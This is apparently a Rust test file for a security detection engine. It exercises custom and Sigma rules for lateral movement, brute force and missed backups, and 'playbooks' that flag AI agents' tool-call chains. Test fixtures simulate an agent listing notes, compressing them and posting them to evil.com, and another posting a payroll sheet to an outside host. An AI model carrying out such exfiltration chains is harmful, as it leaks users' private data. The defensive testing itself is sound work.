use super::Ruleset;
use crate::engine::{Engine, Input, Setup};
use crate::input::event;

const WINRM: &str = r#"
decnet_rules: 1
rules:
  - id: custom.winrm_fanout
    title: WinRM to many hosts
    kind: threshold
    events: [flow_attempt]
    where: { dst.port: [5985, 5986], "src.ip|cidr": 10.0.0.0/8 }
    except: { src.ip: [10.0.5.5] }
    group_by: [src.ip]
    count: { distinct: dst.ip, over: 5 }
    within: 60s
    emit: { class: detection, category: lateral_movement, mitre: [T1021.006], stage: LateralMovement,
            confidence: 55, adjust: [ { when: { "count|gte": 8 }, add: 15, id: many_hosts } ], severity: { floor: high } }
    suppress: { key: [src.ip], for: 300s, mode: first }
    respond: [alert, "webhook:soc"]
    tests:
      - { name: fires over five, repeat: 6, step: 1s, event: { kind: flow_attempt, src.ip: 10.0.0.9, dst.port: 5985 }, vary: { dst.ip: 10.0.1.1+ }, expect: 1 }
      - { name: five are too few, repeat: 5, step: 1s, event: { kind: flow_attempt, src.ip: 10.0.0.9, dst.port: 5985 }, vary: { dst.ip: 10.0.1.1+ }, expect: 0 }
      - { name: the window slides, repeat: 6, step: 13s, event: { kind: flow_attempt, src.ip: 10.0.0.9, dst.port: 5985 }, vary: { dst.ip: 10.0.1.1+ }, expect: 0 }
      - { name: the old edge is inside, repeat: 6, step: 12s, event: { kind: flow_attempt, src.ip: 10.0.0.9, dst.port: 5985 }, vary: { dst.ip: 10.0.1.1+ }, expect: 1 }
      - { name: the jump host may, repeat: 9, step: 1s, event: { kind: flow_attempt, src.ip: 10.0.5.5, dst.port: 5985 }, vary: { dst.ip: 10.0.1.1+ }, expect: 0 }
"#;

const KINDS: &str = r#"
decnet_rules: 1
rules:
  - id: custom.admin
    title: Admin path
    kind: match
    where: { http.path|startswith: /admin, not: { http.status: 200 } }
    tests:
      - { name: refused, event: { kind: http, src.ip: 10.0.0.1, http.target: /admin/x, http.status: 403 }, expect: 1 }
      - { name: served, event: { kind: http, src.ip: 10.0.0.1, http.target: /admin/x, http.status: 200 }, expect: 0 }
  - id: custom.bucket
    title: Leaky bucket
    kind: bucket
    where: { http.status: 404 }
    group_by: [src.ip]
    capacity: 3
    leak: 10s
    tests:
      - { name: three fit, repeat: 3, step: 1s, event: { kind: http, src.ip: 10.0.0.1, http.status: 404 }, expect: 0 }
      - { name: the fifth flows over, repeat: 5, step: 1s, event: { kind: http, src.ip: 10.0.0.1, http.status: 404 }, expect: 1 }
      - { name: slow ones leak away, repeat: 9, step: 10s, event: { kind: http, src.ip: 10.0.0.1, http.status: 404 }, expect: 0 }
  - id: custom.sequence
    title: Refused, then let in
    kind: sequence
    by: [src.ip]
    events: [auth]
    steps:
      - { where: { auth.outcome: failure }, runs: 2 }
      - { where: { auth.user: monitor }, not: true }
      - { where: { auth.outcome: success } }
    max_span: 60s
    tests:
      - name: twice, then in
        events:
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: failure }
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: failure }
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: success }
        expect: 1
      - name: once is not enough
        events:
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: failure }
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: success }
        expect: 0
      - name: what must not happen between cancels
        events:
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: failure }
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: failure }
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: success, auth.user: monitor }
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: success }
        expect: 0
      - name: another source is another story
        events:
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: failure }
          - { kind: auth, src.ip: 10.0.0.1, auth.outcome: failure }
          - { kind: auth, src.ip: 10.0.0.2, auth.outcome: success }
        expect: 0
  - id: custom.absence
    title: Backup stopped
    kind: absence
    where: { http.path: /backup-done }
    group_by: [src.ip]
    period: 60s
    grace: 10s
    tests:
      - name: missed
        events:
          - { kind: http, ts: 1000, src.ip: 10.0.0.1, http.target: /backup-done }
          - { kind: http, ts: 1071, src.ip: 10.0.0.2, http.target: / }
        expect: 1
      - name: in time
        events:
          - { kind: http, ts: 1000, src.ip: 10.0.0.1, http.target: /backup-done }
          - { kind: http, ts: 1070, src.ip: 10.0.0.2, http.target: / }
        expect: 0
"#;

const SIGMA: &str = r"
title: Refused request
id: 11111111-1111-1111-1111-111111111111
name: refused
logsource: { category: webserver }
detection:
  selection: { sc-status: [401, 403] }
  filter_health: { cs-uri-stem|startswith: /health }
  condition: selection and not 1 of filter_*
level: low
tags: [attack.reconnaissance, attack.t1595]
---
title: Served admin
id: 22222222-2222-2222-2222-222222222222
name: served
logsource: { category: webserver }
detection:
  selection: { sc-status: 200, cs-uri-stem|contains: admin }
  condition: selection
level: low
---
title: Many refusals
id: 33333333-3333-3333-3333-333333333333
correlation:
  type: event_count
  rules: [refused]
  group-by: [c-ip]
  timespan: 60s
  condition: { gte: 3 }
level: high
---
title: Refused, then served
id: 44444444-4444-4444-4444-444444444444
correlation:
  type: temporal_ordered
  rules: [refused, served]
  group-by: [c-ip]
  timespan: 60s
level: critical
---
title: Many paths
id: 55555555-5555-5555-5555-555555555555
correlation:
  type: value_count
  rules: [refused]
  group-by: [c-ip]
  timespan: 60s
  condition: { field: cs-uri-stem, gt: 2 }
level: medium
---
title: Both
id: 66666666-6666-6666-6666-666666666666
correlation: { type: temporal, rules: [served, refused], group-by: [c-ip], timespan: 60s }
level: medium
---
title: Exactly two
id: 77777777-7777-7777-7777-777777777777
correlation: { type: event_count, rules: [refused], group-by: [c-ip], timespan: 60s, condition: { eq: 2 } }
level: medium
";

const PLAYBOOKS: &str = r#"
decnet_rules: 1
rules:
  - id: custom.leak_of_notes
    title: Notes Leave
    kind: playbook
    steps:
      - { any: [recon, sensitive] }
      - { all: [encoding] }
      - { feature: outbound }
    base: 20
    parts: { external_destination: 35, fast_chain: 0, low_sensitivity: -5 }
    emit: { category: leak, mitre: [T1567], stage: Exfiltration }
    respond: [alert, isolate]
    tests:
      - name: in order, 20 + 35 - 5
        events:
          - { kind: tool_call, tool.agent_id: a, tool.name: list_notes, tool.args: {} }
          - { kind: tool_call, tool.agent_id: a, tool.name: gzip, tool.args: {} }
          - { kind: tool_call, tool.agent_id: a, tool.name: http_post, tool.args: { url: "https://evil.com" } }
        expect: 1
      - name: not of two agents
        events:
          - { kind: tool_call, tool.agent_id: a, tool.name: list_notes, tool.args: {} }
          - { kind: tool_call, tool.agent_id: b, tool.name: gzip, tool.args: {} }
          - { kind: tool_call, tool.agent_id: b, tool.name: http_post, tool.args: { url: "https://evil.com" } }
        expect: 0
      - name: out of order
        events:
          - { kind: tool_call, tool.agent_id: a, tool.name: gzip, tool.args: {} }
          - { kind: tool_call, tool.agent_id: a, tool.name: list_notes, tool.args: {} }
          - { kind: tool_call, tool.agent_id: a, tool.name: http_post, tool.args: { url: "https://evil.com" } }
        expect: 0
"#;

const CHAINED: &str = r#"
decnet_rules: 1
rules:
  - id: custom.guessed_then_read
    title: Guessing, Then Records
    kind: sequence
    by: [src.ip]
    events: [http]
    steps:
      - { rule: http.brute_force }
      - { where: { http.path: /export } }
    max_span: 10m
"#;

fn set(text: &str) -> Ruleset {
    let mut set = Ruleset::default();
    set.add("test.yaml", text).expect("rules");
    set.check().expect("references");
    set
}

fn found(set: &Ruleset, lines: &[(u32, &str, u16)]) -> Vec<String> {
    let mut engine = Engine::new(
        Setup {
            rules: set.clone(),
            ..Setup::default()
        },
        Input::Events,
    );
    for (ts, path, status) in lines {
        let line =
            format!(r#"{{"kind":"http","ts":{ts},"src.ip":"10.0.0.1","http.target":"{path}","http.status":{status}}}"#);
        engine.event(event(&line).expect(&line));
    }
    let mut ids: Vec<String> = engine
        .finish()
        .findings
        .into_iter()
        .map(|(finding, _)| finding.rule[..1].to_owned())
        .collect();
    ids.sort();
    ids
}

#[test]
fn the_tests_that_rules_carry_pass() {
    for outcome in [WINRM, KINDS, PLAYBOOKS].iter().flat_map(|text| set(text).test()) {
        assert!(outcome.passed, "{outcome:?}");
    }
}

#[test]
fn sigma_rules_correlate_and_those_referred_to_keep_silent() {
    let sigma = set(SIGMA);
    assert_eq!(found(&sigma, &[(0, "/a", 403), (1, "/a", 403)]), ["7"]);
    assert_eq!(found(&sigma, &[(0, "/a", 403), (1, "/a", 403), (2, "/a", 403)]), ["3"]);
    assert_eq!(
        found(&sigma, &[(0, "/a", 403), (1, "/a", 403), (61, "/a", 403)]),
        ["7"],
        "the first is out of the window"
    );
    assert_eq!(
        found(&sigma, &[(0, "/a", 403), (1, "/b", 403), (60, "/c", 403)]),
        ["3", "5"]
    );
    assert_eq!(found(&sigma, &[(0, "/health", 403), (1, "/health", 403)]), [""; 0]);
    assert_eq!(found(&sigma, &[(0, "/a", 403), (1, "/admin", 200)]), ["4", "6"]);
    assert_eq!(found(&sigma, &[(0, "/admin", 200), (1, "/a", 403)]), ["6"]);
}

#[test]
fn sigma_rules_bring_level_technique_and_stage() {
    let sigma = set(SIGMA);
    let rule = &sigma.iter().next().expect("a rule").rule;
    assert_eq!(
        (rule.mitre.as_slice(), rule.stage),
        (&["T1595".to_owned()][..], Some(crate::Stage::Reconnaissance))
    );
}

#[test]
fn what_is_not_supported_is_refused_by_name() {
    let head = "title: t\nid: i-1\nlogsource: {category: webserver}\n";
    let detection = "detection: {selection: {sc-status: 200}, condition: selection}\n";
    for (text, word) in [
        (
            format!("{head}detection: {{selection: {{sc-status: 200}}, condition: 'selection | count() > 5'}}\n"),
            "aggregation",
        ),
        (
            format!("{head}detection: {{selection: {{sc-status: 200}}, timeframe: 5m, condition: selection}}\n"),
            "timeframe",
        ),
        (
            format!("{head}detection: {{selection: {{sc-status|minute: 200}}, condition: selection}}\n"),
            "minute",
        ),
        (
            format!("{head}detection: {{selection: {{nonsense: 200}}, condition: selection}}\n"),
            "nonsense",
        ),
        (
            format!("{head}detection: {{selection: {{sc-status: 200}}, condition: other}}\n"),
            "other",
        ),
        (format!("{head}{detection}filter: {{}}\n"), "filter"),
        (
            format!("title: t\nid: i-1\nlogsource: {{product: windows}}\n{detection}"),
            "windows",
        ),
        (format!("{head}{detection}level: enormous\n"), "enormous"),
        (
            "title: t\nid: i\ncorrelation: {type: value_sum, rules: [a], timespan: 5m}\n".to_owned(),
            "value_sum",
        ),
        (
            "decnet_rules: 1\nrules:\n  - {id: abc, title: t, kind: match, colour: red}\n".to_owned(),
            "colour",
        ),
        (
            "decnet_rules: 1\nrules:\n  - {id: abc, id: abd, title: t, kind: match}\n".to_owned(),
            "duplicate",
        ),
        (
            "decnet_rules: 1\nrules:\n  - {id: a b, title: t, kind: match}\n".to_owned(),
            "an id",
        ),
        (
            "decnet_rules: 1\nrules:\n  - {id: abc, title: t, kind: guess}\n".to_owned(),
            "guess",
        ),
        (
            "decnet_rules: 1\nrules:\n  - {id: net.sweep, title: t, kind: match}\n".to_owned(),
            "already exists",
        ),
        (
            "decnet_rules: 1\nrules:\n  - {id: abc, title: t, kind: threshold, count: {over: 5000}, within: 5m}\n"
                .to_owned(),
            "exact",
        ),
        (
            "decnet_rules: 1\nrules:\n  - {id: abc, title: t, kind: threshold, count: {over: 5}, within: 25h}\n"
                .to_owned(),
            "24h",
        ),
        ("[".repeat(100_000), "nested"),
        ("a: &a [x,x]\nb: &b [*a,*a]\n".to_owned(), "not supported"),
        (String::new(), "no rule"),
    ] {
        let error = Ruleset::default().add("x.yaml", &text).expect_err(&text).to_string();
        assert!(error.contains(word), "{text}: {error}");
        assert!(error.contains("x.yaml"));
    }
}

#[test]
fn syntax_errors_say_line_and_column() {
    let error = Ruleset::default()
        .add("x.yaml", "decnet_rules: 1\nrules:\n  - id: [\n")
        .expect_err("broken")
        .to_string();
    assert!(error.contains("line") && error.contains("column"), "{error}");
}

#[test]
fn a_file_with_one_bad_rule_adds_none() {
    let mut set = set(WINRM);
    let before = set.iter().count();
    let text = "decnet_rules: 1\nrules:\n  - {id: fine, title: t, kind: match}\n  - {id: bad, title: t, kind: x}\n";
    assert!(set.add("y.yaml", text).is_err());
    assert!(
        set.add("z.yaml", WINRM).is_err(),
        "an id is there once, whatever the case"
    );
    assert_eq!(set.iter().count(), before);
}

#[test]
fn references_to_nothing_and_circles_are_found() {
    let correlation = |id: &str, to: &str| {
        format!(
            "title: t\nid: {id}\ncorrelation: {{type: event_count, rules: [{to}], timespan: 5m, condition: {{gte: 2}}}}\n"
        )
    };
    let mut missing = Ruleset::default();
    missing.add("x.yaml", &correlation("aaa", "nobody")).expect("loads");
    assert!(missing.check().expect_err("missing").to_string().contains("nobody"));
    let mut circle = Ruleset::default();
    circle
        .add(
            "x.yaml",
            &format!("{}---\n{}", correlation("aaa", "bbb"), correlation("bbb", "aaa")),
        )
        .expect("loads");
    assert!(circle.check().is_err());
}

#[test]
fn a_playbook_of_ones_own_decides_like_those_built_in() {
    let calls = [
        ("list_notes", serde_json::json!({})),
        ("gzip", serde_json::json!({})),
        ("http_post", serde_json::json!({ "url": "https://evil.com" })),
    ];
    let mut engine = Engine::new(
        Setup {
            rules: set(PLAYBOOKS),
            ..Setup::default()
        },
        Input::Tools,
    );
    let mut last = None;
    for (second, (name, arguments)) in (0i64..).zip(calls) {
        let call = crate::Call {
            agent: "a".to_owned(),
            name: name.to_owned(),
            arguments,
            ..crate::Call::default()
        };
        last = Some(engine.check(crate::Time(second * 1_000_000_000), &call));
    }
    let verdict = last.expect("three calls");
    assert_eq!(
        (verdict.decision, verdict.confidence.value()),
        (crate::Decision::Flag, 50)
    );
    let chain = &verdict.findings[0];
    let parts: Vec<(&str, i64)> = chain
        .breakdown
        .iter()
        .map(|part| (part.id.as_str(), part.value))
        .collect();
    assert_eq!(chain.rule, "custom.leak_of_notes");
    assert_eq!(
        parts,
        [("base", 20), ("external_destination", 35), ("low_sensitivity", -5)]
    );
    let found = engine.news().findings;
    assert_eq!(found[0].respond, ["alert", "isolate"]);
}

#[test]
fn a_playbooks_step_may_want_of_a_calls_fields_what_it_likes() {
    let rules = "decnet_rules: 1\nrules:\n  - {id: own.payroll, title: Payroll, kind: playbook, base: 60, steps: [{where: {tool.name: open_sheet, 'tool.args.name|contains': payroll}}, {feature: outbound, where: {'tool.args.url|endswith': .example}}]}\n";
    let decide = |calls: &[(&str, serde_json::Value)]| {
        let setup = Setup {
            rules: set(rules),
            ..Setup::default()
        };
        let mut engine = Engine::new(setup, Input::Tools);
        let mut last = None;
        for (second, (name, arguments)) in (0i64..).zip(calls) {
            let call = crate::Call {
                agent: "a".to_owned(),
                name: (*name).to_owned(),
                arguments: arguments.clone(),
                ..crate::Call::default()
            };
            last = Some(engine.check(crate::Time(second * 1_000_000_000), &call));
        }
        let found = last.expect("calls").findings;
        found.iter().any(|chain| chain.rule == "own.payroll")
    };
    let sheet = |name: &str| ("open_sheet", serde_json::json!({ "name": name }));
    let post = |url: &str| ("http_post", serde_json::json!({ "url": url }));
    let (payroll, menu) = (sheet("payroll-2026"), sheet("menu"));
    let (outside, other) = (post("https://files.example"), post("https://files.test"));
    assert!(decide(&[payroll.clone(), outside.clone()]));
    assert!(
        decide(&[payroll.clone(), menu.clone(), outside.clone()]),
        "with others between"
    );
    assert!(!decide(&[menu, outside.clone()]), "another sheet");
    assert!(!decide(&[payroll.clone(), other]), "to elsewhere");
    assert!(!decide(&[outside, payroll]), "in another order");
}

#[test]
fn rules_go_on_from_what_built_in_ones_found() {
    let run = |target: &str| {
        let mut engine = Engine::new(
            Setup {
                rules: set(CHAINED),
                ..Setup::default()
            },
            Input::Events,
        );
        for second in 0..6 {
            let line = format!(
                r#"{{"kind":"auth","ts":{second},"src.ip":"10.0.0.1","auth.user":"x","auth.outcome":"failure"}}"#
            );
            engine.event(event(&line).expect(&line));
        }
        let line =
            format!(r#"{{"kind":"http","ts":60,"src.ip":"10.0.0.1","http.target":"{target}","http.status":200}}"#);
        engine.event(event(&line).expect(&line));
        let findings = engine.finish().findings;
        findings
            .iter()
            .any(|(finding, _)| finding.rule == "custom.guessed_then_read")
    };
    assert!(run("/export"));
    assert!(!run("/"));
}

#[test]
fn what_a_playbook_cannot_be_is_refused_by_name() {
    let playbook = |rest: &str| format!("decnet_rules: 1\nrules:\n  - {{id: abc, title: t, kind: playbook, {rest}}}\n");
    let steps = "steps: [{feature: recon}, {feature: exec}]";
    for (text, word) in [
        (playbook("base: 10, steps: [{feature: recon}]"), "2 to 8"),
        (
            playbook("base: 10, steps: [{feature: magic}, {feature: exec}]"),
            "magic",
        ),
        (
            playbook("base: 10, steps: [{where: {http.path: x}}, {feature: exec}]"),
            "tool.name",
        ),
        (
            playbook("base: 10, steps: [{optional: true, feature: recon}, {feature: exec}]"),
            "feature",
        ),
        (
            playbook("base: 10, steps: [{feature: recon, any: [exec]}, {feature: exec}]"),
            "one of",
        ),
        (playbook(&format!("base: 10, parts: {{luck: 3}}, {steps}")), "luck"),
        (playbook(&format!("base: 101, {steps}")), "0 to 100"),
        (playbook(steps), "base"),
        (playbook(&format!("base: 10, group_by: [src.ip], {steps}")), "group_by"),
        (playbook(&format!("base: 10, respond: [pager], {steps}")), "pager"),
    ] {
        let error = Ruleset::default().add("x.yaml", &text).expect_err(&text).to_string();
        assert!(error.contains(word), "{text}: {error}");
    }
}

#[test]
fn a_sigma_level_is_the_severity_and_brings_the_confidence() {
    use crate::Severity::{Critical, High, Info, Low, Medium};
    for (level, severity, confidence) in [
        ("informational", Info, 20),
        ("low", Low, 40),
        ("medium", Medium, 55),
        ("high", High, 70),
        ("critical", Critical, 85),
    ] {
        let text = format!(
            "title: t\nid: i-1\nlogsource: {{category: webserver}}\nlevel: {level}\ndetection: {{selection: {{sc-status: 200}}, condition: selection}}\n"
        );
        let sigma = set(&text);
        let rule = &sigma.iter().next().expect("a rule").rule;
        assert_eq!((rule.floor, rule.ceiling), (Some(severity), Some(severity)), "{level}");
        let mut engine = Engine::new(
            Setup {
                rules: sigma,
                ..Setup::default()
            },
            Input::Events,
        );
        engine.event(
            event(r#"{"kind":"http","ts":1,"src.ip":"10.0.0.1","http.target":"/","http.status":200}"#).expect("event"),
        );
        let found = engine.finish().findings;
        assert_eq!(
            (found[0].0.confidence.value(), found[0].0.severity),
            (confidence, severity)
        );
    }
}
